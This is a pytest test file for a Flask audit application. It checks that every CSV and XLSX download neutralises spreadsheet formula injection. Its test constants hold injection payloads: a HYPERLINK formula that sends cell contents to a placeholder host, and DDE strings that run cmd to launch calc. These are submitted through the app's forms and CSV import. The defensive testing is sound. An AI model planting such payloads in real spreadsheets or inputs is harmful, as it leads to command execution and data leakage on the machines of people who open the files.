"""No CSV or XLSX the app writes carries a formula (issue 22, item 3; OWASP "CSV
injection"): text starting with = + - @ tab or carriage return gets a leading
single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from audit_app.extensions import db
from audit_app.models import Audit, User
from audit_app.services import benchmarking, exports
from audit_app.services import questionnaire_import as importing
from audit_app.services.spreadsheets import FORMULA_START, csv_text, safe_cell
from tests import factories as make
from tests.visit import Visitor
from tests.web.conftest import Cast, publish
from tests.web.crawl import get_urls
from tests.web.test_audits import _new_audit_form
from tests.web.test_evidence import _create, _decide, _submit
from tests.web.test_plan import _funding, _priority
from tests.web.test_questionnaires import (
    _answer,
    _answer_all,
    _definition,
    _mapping,
    _open,
    _upload,
)
from tests.web.test_stakeholders import _stakeholder

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Click")'
IMPORTED = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def cells_of(response: Any) -> list[Any]:
    """Every cell of a CSV or XLSX download; asserts none is a formula on the way."""
    body = response.get_data()
    if response.mimetype == XLSX:
        book = load_workbook(io.BytesIO(body))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert formulas == [], f"formula cells {formulas}"
        values = [cell.value for cell in cells]
        runnable = [v for v in values if isinstance(v, str) and v.startswith(FORMULA_START)]
    else:
        values = [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]
        # A CSV has no types: a cell is a number if it reads as one (a negative amount).
        runnable = [v for v in values if v.startswith(FORMULA_START) and not _is_number(v)]
    assert runnable == [], f"cells a spreadsheet would run: {runnable}"
    return values


def _results(visitor: Visitor, audit_id: int, questionnaire_id: int) -> dict[str, list[Any]]:
    base = f"/audits/{audit_id}/questionnaires/{questionnaire_id}"
    found = {}
    for name in ("results.csv", "results.xlsx"):
        response = visitor.client.get(f"{base}/{name}")
        assert response.status_code == 200, name
        found[name] = cells_of(response)
    return found


# --- seen 3 ----------------------------------------------------------------------


def test_a_hostile_answer_through_the_public_link_is_text_in_the_results(
    app: Flask, as_lead: Visitor, cast: Cast
) -> None:
    questionnaire_id, token = _open(app, cast.draft.id)
    definition = _definition(app, questionnaire_id)
    for _ in range(5):  # enough answers that no group is too small to show
        carer = Visitor(app.test_client())
        _answer_all(carer, f"/survey/{token}", definition, _answer(one_change=HYPERLINK))
    for name, values in _results(as_lead, cast.draft.id, questionnaire_id).items():
        assert "'" + HYPERLINK in values, name


def test_imported_answers_starting_with_plus_minus_or_at_are_text_in_the_results(
    app: Flask, as_lead: Visitor, cast: Cast
) -> None:
    questionnaire_id, _ = _open(app, cast.draft.id)
    definition = _definition(app, questionnaire_id)
    base = f"/audits/{cast.draft.id}/questionnaires/{questionnaire_id}"
    answers = [_answer(one_change=text) for text in IMPORTED * 2]
    columns = _upload(as_lead, base, importing.responses_csv(definition, answers))
    assert columns.status == 302
    where = columns.response.headers["Location"]
    mapping = _mapping(as_lead.get(where))
    assert as_lead.post(where, mapping, follow=True, status=200).h1 == "Imported"
    for name, values in _results(as_lead, cast.draft.id, questionnaire_id).items():
        for text in IMPORTED:
            assert "'" + text in values, (name, text)


# --- the function ------------------------------------------------------------------


@given(st.text())
def test_safe_cell_leaves_no_text_a_spreadsheet_would_run(text: str) -> None:
    safe = safe_cell(text)
    assert not safe.startswith(FORMULA_START)
    assert safe in (text, "'" + text)  # nothing is lost: the quote only shows it is text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers(number: Any) -> None:
    assert safe_cell(number) is number


def test_csv_text_quotes_every_cell_that_would_run() -> None:
    rows = list(csv.reader(io.StringIO(csv_text([["=1+1", "\tx", "\rx", "plain", -5]]))))
    assert rows == [["'=1+1", "'\tx", "'\rx", "plain", "-5"]]


# --- generated: every download route, with hostile text fed through the forms -------

HOSTILE = {
    "audit title (audit form)": '=HYPERLINK("http://x/?"&A1,"Audit")',
    "intervention name (tailoring form)": "@SUM(1+1)*cmd|' /C calc'!A0",
    "stakeholder name (stakeholder form)": "+cmd|' /C calc'!A0",
    "evidence service (evidence form)": "-1+cmd|' /C calc'!A0",
    "priority title (plan form)": "=1+2",
    "funding partner (funding form)": "-Refund+cmd|' /C calc'!A0",
    "survey answer (public link)": HYPERLINK,
    **{f"imported answer {text[0]} (CSV import)": text for text in IMPORTED},
}
# Download routes whose files hold nothing anyone typed: the questionnaire's CSV
# template is its question codes, from the definition files.
NO_TYPED_TEXT = {"questionnaires.template"}


def _send_form(visitor: Visitor, url: str, changes: dict[str, Any]) -> Any:
    """Send the form on ``url`` as the page fills it in, with ``changes``."""
    form = visitor.get(url).soup.select_one("main form[method=post]")
    assert form is not None, url
    data: dict[str, Any] = {}
    for field in form.select("input[name], select[name], textarea[name]"):
        name, kind = str(field["name"]), field.get("type")
        if kind in ("radio", "checkbox"):
            if field.has_attr("checked"):
                data.setdefault(name, []).append(field.get("value", "y"))
        elif field.name == "select":
            chosen = field.select_one("option[selected]") or field.select_one("option")
            data[name] = chosen.get("value", "") if chosen else ""
        elif field.name == "textarea":
            data[name] = field.get_text()
        elif kind != "submit":
            data[name] = field.get("value", "")
    data.update(changes)
    page = visitor.post(url, data, status=None)
    assert page.status == 302, (url, page.error_summary(), data)
    return page


def _hostile_audit(app: Flask, visitor: Visitor, cast: Cast) -> tuple[int, int]:
    """A dementia audit after the cast's published one, filled through the forms and
    the public survey with text a spreadsheet would run; published. (audit, questionnaire)"""
    page = visitor.post(
        "/audits/new", _new_audit_form(cast, title=HOSTILE["audit title (audit form)"])
    )
    audit_id = int(page.response.location.rstrip("/").split("/")[-1])
    with app.app_context():
        audit = db.session.get(Audit, audit_id)
        for person, role in ((cast.partner, "partner"), (cast.commissioner, "commissioner")):
            make.member(audit, db.session.get(User, person.id), role)  # type: ignore[arg-type]
    base = f"/audits/{audit_id}"
    _send_form(
        visitor,
        f"{base}/framework/interventions/breaks/rename",
        {"name": HOSTILE["intervention name (tailoring form)"]},
    )
    visitor.post(
        f"{base}/stakeholders/new",
        _stakeholder(name=HOSTILE["stakeholder name (stakeholder form)"]),
    )
    visitor.switch("partner@example.org")
    evidence_id = _create(
        visitor, audit_id, service_name=HOSTILE["evidence service (evidence form)"]
    )
    _submit(visitor, audit_id, evidence_id)
    visitor.switch("lead@example.org")
    _decide(visitor, audit_id, evidence_id, "accept")
    _send_form(
        visitor,
        f"{base}/ratings/breaks/dementia",
        {
            "rag": "red",
            "maturity": "early",
            "rationale": "Few evening breaks",
            "evidence": [evidence_id],
        },
    )
    visitor.post(
        f"{base}/plan/priorities/new", _priority(title=HOSTILE["priority title (plan form)"])
    )
    visitor.post(
        f"{base}/plan/funding/new",
        _funding(partner=HOSTILE["funding partner (funding form)"], amount="25000"),
    )
    questionnaire_id, token = _open(app, audit_id)
    definition = _definition(app, questionnaire_id)
    for _ in range(5):
        carer = Visitor(app.test_client())
        _answer_all(carer, f"/survey/{token}", definition, _answer(one_change=HYPERLINK))
    answers = [_answer(one_change=text) for text in IMPORTED * 2]
    columns = _upload(
        visitor,
        f"{base}/questionnaires/{questionnaire_id}",
        importing.responses_csv(definition, answers),
    )
    where = columns.response.headers["Location"]
    visitor.post(where, _mapping(visitor.get(where)), follow=True, status=200)
    publish(app, audit_id)
    return audit_id, questionnaire_id


def _download_urls(app: Flask, cast: Cast, audit_id: int, questionnaire_id: int) -> list:  # type: ignore[type-arg]
    with app.app_context():
        compared = [db.session.get(Audit, i) for i in (cast.published.id, audit_id)]
        keys = [table.key for table in benchmarking.benchmark(compared)]  # type: ignore[arg-type]
    # The hostile audit first: its (renamed) intervention names label the rows.
    chosen = f"?audits={audit_id}&audits={cast.published.id}"
    values = {
        "audit_id": [audit_id],
        "questionnaire_id": [questionnaire_id],
        "slug": list(exports.TABLES),
        "key": keys,
    }
    variants = {
        endpoint: [chosen]
        for endpoint in (
            "cycles.compare_areas",
            "cycles.compare_areas_xlsx",
            "cycles.compare_areas_csv",
        )
    }
    return get_urls(app, values, variants)


def test_every_download_route_quotes_hostile_text_and_keeps_numbers(
    app: Flask, as_lead: Visitor, cast: Cast
) -> None:
    audit_id, questionnaire_id = _hostile_audit(app, as_lead, cast)
    downloads: dict[str, list[list[Any]]] = {}
    for endpoint, url in _download_urls(app, cast, audit_id, questionnaire_id):
        response = as_lead.client.get(url)
        assert response.status_code < 500, url
        if response.status_code == 200 and response.mimetype in ("text/csv", XLSX):
            downloads.setdefault(endpoint, []).append(cells_of(response))
    spreadsheet_routes = {
        rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx"))
    }
    assert len(spreadsheet_routes) >= 8
    assert spreadsheet_routes <= set(downloads), "a download route gave no file"
    quoted = {"'" + text for text in HOSTILE.values()}
    for endpoint, files in downloads.items():
        if endpoint not in NO_TYPED_TEXT:
            assert any(quoted & set(cells) for cells in files), f"no hostile text in {endpoint}"
    everything = {cell for files in downloads.values() for cells in files for cell in cells}
    assert {name for name, text in HOSTILE.items() if "'" + text not in everything} == set()
    # Amounts stay numbers (a later issue wants numbers stored as numbers); a negative
    # one too: test_exports.py's funding table and test_numbers_stay_numbers.
    workbook = {cell for cells in downloads["exports.xlsx"] for cell in cells}
    assert 25000 in workbook and "25000" not in workbook
